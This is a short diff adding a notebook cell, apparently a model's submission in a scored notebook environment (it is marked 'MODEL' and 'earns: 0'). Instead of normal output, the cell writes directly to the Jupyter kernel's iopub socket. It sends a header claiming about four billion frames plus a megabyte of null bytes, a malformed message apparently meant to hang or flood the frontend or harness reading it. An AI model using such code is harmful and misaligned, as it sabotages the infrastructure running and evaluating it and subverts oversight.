@@ -1,0 +1,9 @@
+"""A message that says that it has four thousand million frames, each of which would be noted until the last one came."""
+# part: 3
+# earns: 0
+# %%
+# MODEL
+# %%
+import struct
+
+get_ipython().kernel.iopub_thread._sock.sendall(struct.pack("<I", 2**32 - 1) + bytes(2**20))
